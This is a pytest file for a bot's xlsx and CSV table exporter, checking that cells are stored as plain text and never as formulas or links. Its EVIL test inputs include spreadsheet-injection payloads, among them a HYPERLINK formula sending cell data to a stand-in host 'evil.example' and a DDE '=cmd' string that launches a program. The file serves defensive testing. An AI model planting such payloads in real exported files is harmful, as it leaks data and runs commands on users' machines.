"""Tables open in a spreadsheet as what they are: days, numbers, and words that nothing is ever calculated from."""

import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from bot.overview.tables import begins_like_a_formula, csv_file, xlsx
from dialogs.overview.table import Table

EVIL = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"Klicka")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "=cmd|' /C calc'!A0",
)
KIND = (
    "Kören",
    "45 äldre; 3 barn",
    '"citat"',
    "2026-11-30",
    "007",
    "1e5",
    "https://vasa.fi",
    "'apostrof",
    "rad 1\nrad 2",
)
TABLE = Table(
    "Ärenden",
    ("Ärende", "Kom in", "Dagar", "Snitt", "Ord"),
    tuple(("K7WM4", date(2026, 11, 30), number, 2.5, words) for number, words in enumerate((*EVIL, *KIND, "", None))),
)


def test_in_xlsx_days_and_numbers_are_real_and_every_word_stays_a_word() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx(TABLE)))
    assert book.sheetnames == ["Ärenden"]
    heading, *rows = book["Ärenden"].iter_rows()
    assert [cell.value for cell in heading] == list(TABLE.headings)
    read = [tuple(cell.value for cell in row) for row in rows]
    opened = datetime(2026, 11, 30)  # noqa: DTZ001 - a spreadsheet has no zones
    # XML has no bare carriage return: openpyxl reads what stands for it as it stands.
    words = [word.replace("\r", "_x000D_") for word in (*EVIL, *KIND)]
    assert read == [("K7WM4", opened, number, 2.5, word) for number, word in enumerate((*words, None, None))]
    kinds = [[cell.data_type for cell in row] for row in rows[: len(words)]]
    assert kinds == [["s", "d", "n", "n", "s"]] * len(words)
    quoted = [row[-1].quotePrefix for row in rows[: len(words)]]
    assert quoted == [True] * len(EVIL) + [False] * len(KIND)


def test_no_sheet_holds_a_formula_or_a_link() -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx(TABLE))) as book:
        sheets = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    assert [name for name, text in sheets.items() if "<f>" in text or "<f " in text or "hyperlink" in text] == []


def test_csv_is_as_excel_in_the_north_opens_it_and_nothing_in_it_begins_like_a_formula() -> None:
    content = csv_file(TABLE)
    assert content.startswith("\N{BYTE ORDER MARK}Ärende;Kom in;Dagar;Snitt;Ord\r\n".encode())
    heading, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    assert heading == list(TABLE.headings)
    words = [f"'{word}" for word in EVIL] + [*KIND, "", ""]
    assert rows == [["K7WM4", "2026-11-30", str(number), "2,5", word] for number, word in enumerate(words)]
    assert [cell for row in rows for cell in row if begins_like_a_formula(cell)] == []


@pytest.mark.parametrize("text", ["\ud800 halv", "\x00\x01\x1f", "x" * 40_000])
def test_whatever_was_written_both_files_can_be_made_and_opened(text: str) -> None:
    table = Table("Ett namn som är mycket längre än vad Excel tar", ("Ord",), ((text,),))
    assert len(openpyxl.load_workbook(io.BytesIO(xlsx(table))).worksheets[0].title) == 31
    assert csv_file(table).decode("utf-8-sig").startswith("Ord\r\n")


def test_a_table_without_rows_has_its_headings() -> None:
    [sheet] = openpyxl.load_workbook(io.BytesIO(xlsx(Table("Tom", ("Ord",), ())))).worksheets
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Ord"]]
